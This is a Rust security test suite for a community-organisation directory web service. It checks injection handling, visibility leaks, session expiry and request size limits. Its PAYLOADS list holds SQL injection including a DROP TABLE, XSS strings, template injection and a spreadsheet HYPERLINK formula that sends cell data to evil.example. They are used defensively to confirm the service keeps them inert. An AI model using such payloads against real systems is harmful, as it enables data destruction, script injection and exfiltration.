//! Security, tried against the whole product over real HTTP: injection payloads in every text field come
//! back inert; nothing above a viewer's visibility leaks from any GET endpoint or page; sessions expire;
//! request bodies and query strings are bounded.

use reqwest::StatusCode;
use serde_json::{json, Value};
use shared::accounts::Role;
use shared::test_support::{TestApp, TestUser};

async fn app() -> TestApp {
    TestApp::spawn(commonground::services).await
}

async fn create(app: &TestApp, admin: &TestUser, body: &Value) -> String {
    let response = app
        .http
        .post(app.url("/api/v1/organisations"))
        .bearer_auth(&admin.token)
        .json(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED, "{body}");
    response.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string()
}

async fn text(app: &TestApp, user: Option<&TestUser>, path: &str) -> (StatusCode, String) {
    let mut request = app.http.get(app.url(path));
    if let Some(user) = user {
        request = request.bearer_auth(&user.token);
    }
    let response = request.send().await.unwrap();
    (response.status(), response.text().await.unwrap())
}

const PAYLOADS: [&str; 6] = [
    "Robert'); DROP TABLE directory.organisations; --",
    "<script>alert('xss')</script>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "' OR '1'='1",
    "{{7*7}} ${7*7} <img src=x onerror=alert(1)>",
];

#[tokio::test]
async fn injection_payloads_in_every_text_field_come_back_inert() {
    let app = app().await;
    let admin = app.user(Role::Admin).await;
    let mut ids = Vec::new();
    for payload in PAYLOADS {
        let body = json!({
            "name": format!("{payload} Solidarity"), "description": payload, "themes": [payload],
            "communities": [payload], "languages": ["en"], "membership": "member",
            "contact": {"name": payload, "phone": "+44 20 7946 0000"},
            "locations": [{"label": payload, "address": payload, "town": payload,
                           "latitude": 52.40656, "longitude": -1.51217, "precision": "exact"}]
        });
        ids.push((create(&app, &admin, &body).await, payload));
    }
    // Stored and answered exactly as written: data, never code.
    for (id, payload) in &ids {
        let (status, body) = text(&app, Some(&admin), &format!("/api/v1/organisations/{id}")).await;
        assert_eq!(status, StatusCode::OK);
        let organisation: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(organisation["name"], format!("{payload} Solidarity"));
        assert_eq!(organisation["description"], *payload);
        assert_eq!(organisation["themes"], json!([payload]));
        assert_eq!(organisation["contact"]["name"], *payload);
        assert_eq!(organisation["locations"][0]["address"], *payload);
    }
    let client = app.database.pool().get().await.unwrap();
    let stored: i64 = client
        .query_one("SELECT count(*) FROM directory.organisations", &[])
        .await
        .unwrap()
        .get(0);
    assert_eq!(stored, PAYLOADS.len() as i64, "no statement ran from a payload");

    // Search finds them by their words; the spreadsheet export turns the formula into text.
    let started = std::time::Instant::now();
    let csv = loop {
        let (status, csv) = text(&app, None, "/api/v1/exports/search.csv?q=solidarity&limit=50").await;
        if status == StatusCode::OK && csv.lines().count() > PAYLOADS.len() {
            break csv;
        }
        assert!(
            started.elapsed().as_secs() < 10,
            "the index did not catch up: {csv}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(!csv.lines().any(|line| line
        .split(',')
        .nth(1)
        .is_some_and(|cell| cell.starts_with("\"=") || cell.starts_with('='))));

    // Pages escape everything.
    for (id, _) in &ids {
        let (status, page) = text(&app, None, &format!("/organisations/{id}")).await;
        assert_eq!(status, StatusCode::OK);
        for raw in ["<script>alert(", "<img src=x", "\" onmouseover=\""] {
            assert!(!page.contains(raw), "unescaped {raw} in the page of {id}");
        }
    }
    let (_, results) = text(&app, None, "/?q=solidarity").await;
    assert!(
        !results.contains("<script>alert(") && results.contains("&lt;script&gt;"),
        "{results}"
    );
}

/// What the organisation below keeps from everyone but staff and its own editors.
const SECRETS: [&str; 6] = [
    "safe-house@example.org",
    "12 Secret Street",
    "CV1 9ZZ",
    "52.41234",
    "-1.51234",
    "secret coalition note",
];

#[tokio::test]
async fn nothing_above_a_viewers_visibility_leaks_from_any_get_endpoint_or_page() {
    let app = app().await;
    let admin = app.user(Role::Admin).await;
    let harbour = create(&app, &admin, &json!({
        "name": "Hidden Harbour", "description": "A women's safe space in Coventry", "membership": "member",
        "themes": ["safety"], "contact": {"email": "safe-house@example.org"},
        "visibility": {"profile": "public", "contact": "private", "locations": "public", "membership": "private"},
        "locations": [{"label": "drop-in", "address": "12 Secret Street", "postcode": "CV1 9ZZ", "town": "Coventry",
                       "latitude": 52.41234, "longitude": -1.51234, "precision": "area"}]
    }))
    .await;
    let partner = create(&app, &admin, &json!({"name": "Partner Circle", "membership": "member",
        "locations": [{"town": "Coventry", "latitude": 52.40656, "longitude": -1.51217, "precision": "exact"}]}))
    .await;
    let unrelated = create(
        &app,
        &admin,
        &json!({"name": "Unrelated Group", "membership": "member"}),
    )
    .await;
    let link: Value = app
        .http
        .post(app.url(&format!("/api/v1/organisations/{harbour}/links")))
        .bearer_auth(&admin.token)
        .json(&json!({"to": partner, "kind": "coalition", "note": "secret coalition note", "visibility": "private"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let link = link["id"].as_str().unwrap().to_string();
    let member = app.user(Role::Member).await;
    let planner = app.user(Role::Planner).await;
    let editor_elsewhere = app.user(Role::Member).await;
    let added = app
        .http
        .post(app.url(&format!("/api/v1/organisations/{unrelated}/editors")))
        .bearer_auth(&admin.token)
        .json(&json!({"email": editor_elsewhere.viewer.email}))
        .send()
        .await
        .unwrap();
    assert_eq!(added.status(), StatusCode::CREATED);

    // Every GET of the OpenAPI document, with ids filled in, plus the pages.
    let (_, document) = text(&app, None, "/api/v1/openapi.json").await;
    let document: Value = serde_json::from_str(&document).unwrap();
    let mut paths: Vec<String> = document["paths"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(_, operations)| operations.get("get").is_some())
        .map(|(path, _)| {
            let filled = path
                .replace("{id}", &harbour)
                .replace("{link_id}", &link)
                .replace("{user_id}", &editor_elsewhere.viewer.id.to_string());
            let filled = filled
                .split('{')
                .next()
                .unwrap()
                .trim_end_matches('/')
                .to_string();
            format!("{filled}?q=harbour&town=Coventry&radius_km=50")
        })
        .collect();
    paths.extend([
        "/?q=harbour".to_string(),
        "/?town=Coventry&radius_km=10".to_string(),
        format!("/organisations/{harbour}"),
        format!("/organisations/{harbour}/allies"),
        format!("/organisations/{partner}"),
    ]);
    assert!(paths.len() > 20, "{paths:?}");

    // Wait for the index, so searches really contain the organisation.
    let started = std::time::Instant::now();
    while !text(&app, None, "/api/v1/organisations/search?q=harbour")
        .await
        .1
        .contains(&harbour)
    {
        assert!(started.elapsed().as_secs() < 10, "the index did not catch up");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let mut leaks = Vec::new();
    let mut answered = 0;
    for (who, user) in [
        ("anonymous", None),
        ("member", Some(&member)),
        ("planner", Some(&planner)),
        ("an editor of another organisation", Some(&editor_elsewhere)),
    ] {
        for path in &paths {
            let (status, body) = text(&app, user, path).await;
            assert!(!status.is_server_error(), "{path} as {who}: {status}");
            answered += 1;
            for secret in SECRETS {
                if body.contains(secret) {
                    leaks.push(format!("{path} shows {secret:?} to {who}"));
                }
            }
        }
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
    assert_eq!(answered, paths.len() * 4);

    // The control: staff see every one of those, so the sweep above could have found them.
    let mut seen_by_staff = String::new();
    for path in [
        format!("/api/v1/organisations/{harbour}"),
        format!("/api/v1/organisations/{harbour}/links"),
    ] {
        seen_by_staff.push_str(&text(&app, Some(&admin), &path).await.1);
    }
    for secret in SECRETS {
        assert!(seen_by_staff.contains(secret), "staff should see {secret:?}");
    }
}

#[tokio::test]
async fn an_expired_session_or_token_lets_nobody_in() {
    let app = app().await;
    let member = app.user(Role::Member).await;
    let signed_in = app
        .http
        .post(app.url("/api/v1/session"))
        .json(&json!({"email": member.viewer.email, "password": member.password}))
        .send()
        .await
        .unwrap();
    assert_eq!(signed_in.status(), StatusCode::OK);
    let cookie = signed_in.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let me = |cookie: String| {
        let app = &app;
        async move {
            app.http
                .get(app.url("/api/v1/me"))
                .header("cookie", cookie)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(me(cookie.clone()).await, StatusCode::OK);
    let client = app.database.pool().get().await.unwrap();
    client
        .execute(
            "UPDATE accounts.sessions SET expires_at = now() - interval '1 second' WHERE user_id = $1",
            &[&member.viewer.id],
        )
        .await
        .unwrap();
    assert_eq!(me(cookie).await, StatusCode::UNAUTHORIZED);
    let bearer = app
        .http
        .get(app.url("/api/v1/me"))
        .bearer_auth(&member.token)
        .send()
        .await
        .unwrap();
    assert_eq!(bearer.status(), StatusCode::OK);
    client
        .execute(
            "UPDATE accounts.api_tokens SET expires_at = now() - interval '1 second' WHERE user_id = $1",
            &[&member.viewer.id],
        )
        .await
        .unwrap();
    let bearer = app
        .http
        .get(app.url("/api/v1/me"))
        .bearer_auth(&member.token)
        .send()
        .await
        .unwrap();
    assert_eq!(bearer.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn oversized_bodies_and_query_strings_are_refused_with_a_problem() {
    let app = app().await;
    let admin = app.user(Role::Admin).await;
    let huge = "x".repeat(shared::http::BODY_LIMIT_BYTES as usize + 1);
    let response = app
        .http
        .post(app.url("/api/v1/organisations"))
        .bearer_auth(&admin.token)
        .json(&json!({"name": "Big", "membership": "member", "description": huge}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(response.headers()["content-type"], "application/problem+json");

    let long_query = format!("/api/v1/organisations/search?q={}", "refugee%20".repeat(2_000));
    let response = app.http.get(app.url(&long_query)).send().await.unwrap();
    assert!(response.status().is_client_error(), "{}", response.status());
    assert_eq!(response.headers()["content-type"], "application/problem+json");
    let stored: i64 = app
        .database
        .pool()
        .get()
        .await
        .unwrap()
        .query_one("SELECT count(*) FROM directory.organisations", &[])
        .await
        .unwrap()
        .get(0);
    assert_eq!(stored, 0);
}
